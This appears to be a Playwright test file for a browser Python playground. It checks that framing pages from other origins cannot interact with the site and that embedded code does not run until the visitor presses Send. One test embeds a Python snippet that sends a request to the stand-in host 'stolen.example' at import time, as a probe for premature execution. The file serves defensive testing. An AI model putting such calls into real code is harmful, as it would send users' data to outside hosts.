// Each page around ours, in a tab beside the visitor's. And what an embedded run does before it is asked to run: nothing, which is heard of in a room
// without walls, where a program that runs is heard.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from '@playwright/test';
import { OPENED } from '../ways-out.ts';
import { frames, type Ours } from './frames.ts';
import { expect, type Ground, test } from './ground.ts';
import { project, wordOf } from './links.ts';
import { embeddedWord } from './recordings.ts';
import { NO_ROOM, NO_STILL } from './walls.ts';

/** A page of another origin, in a tab of its own. */
async function around({ context, site }: Ground, html: string): Promise<Page> {
  const whole = html
    .replaceAll('OURS', site.url)
    .replaceAll('PLAYED', embeddedWord())
    .replaceAll('PROJECT', `shared/${wordOf(JSON.stringify(project()))}`);
  const server = createServer((_, response) => response.setHeader('Content-Type', 'text/html').end(`<!doctype html>${whole}`));
  await new Promise<void>((ready) => server.listen(0, 'localhost', ready));
  const page = await context.newPage();
  page.on('close', () => {
    server.closeAllConnections();
    server.close();
  });
  await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
  return page;
}

/** Ours, however deep it stands. */
const oursIn = (page: Page, site: string) =>
  expect
    .poll(() => page.frames().some((frame) => frame.url().startsWith(site)))
    .toBe(true)
    .then(() => page.frames().find((frame) => frame.url().startsWith(site)) ?? page.mainFrame());

async function stands(ours: Frame, is: Ours): Promise<void> {
  if (is === 'still') await expect(ours.getByRole('link', { name: 'Open it in a tab of its own' })).toBeVisible();
  if (is === 'embedded') await expect(ours.getByRole('heading', { level: 1 })).toHaveText('A stranger’s');
  await expect(ours.getByRole('button', { name: /Send|Edit/ })).toHaveCount(0);
}

for (const { name, page: html, is, later } of frames) {
  test(`a page that ${name} gains nothing`, async ({ ground }) => {
    ground.site.reset();
    const page = await around(ground, html);
    const ours = await oursIn(page, ground.site.url);
    await stands(ours, is);
    if (later !== undefined) {
      await page.evaluate(later.does.replaceAll('OURS', ground.site.url));
      await stands(ours, later.is);
    }
    expect(ground.site.asked.filter((asked) => /pyodide|hall|room/.test(asked))).toEqual([]);
    await page.close();
  });
}

test('with the wall taken down, the whole page opens in somebody else’s', async ({ another }) => {
  const bare = await another(NO_STILL);
  const page = await around(bare, frames[0]?.page ?? '');
  await expect(page.frameLocator('iframe').getByRole('button', { name: /^Send/ })).toBeVisible();
});

test('nothing of an embedded run runs at the first button; at the second it does', async ({ another }) => {
  test.setTimeout(120_000);
  const bare = await another(NO_ROOM);
  // At import already.
  const source = `${OPENED}

for name in "imported",:
    x = js.XMLHttpRequest.new()
    x.open("GET", "http://stolen.example/" + name, False)
    x.send()


def application(environ, start_response):
    start_response("200 OK", [])
    return [b"theirs"]
`;
  const word = embeddedWord({ editable: true, project: { files: { 'app.py': source } } });
  bare.site.reset();
  const page = await around(bare, `<iframe width="900" height="700" src="${bare.site.url}#${word}"></iframe>`);
  const ours = page.frameLocator('iframe');
  await ours.getByRole('button', { name: 'Edit and run' }).click();
  await expect(ours.getByRole('button', { name: /^Send/ })).toBeVisible();
  await expect.poll(() => bare.site.asked.filter((asked) => /\.wasm$/.test(asked)).length).toBeGreaterThan(0);
  // Meanwhile another Python is started from the beginning, and has answered: what was to run at a start would have run by now.
  await bare.page.bringToFront();
  await bare.page.reload();
  await expect(bare.playground.send).toBeVisible();
  await bare.playground.sends();
  await bare.playground.response('still mine');
  await page.bringToFront();
  expect(bare.ear.heard).toEqual([]);
  await ours.getByRole('button', { name: /^Send/ }).click();
  await expect.poll(() => bare.ear.heard.join()).toContain('/imported');
});
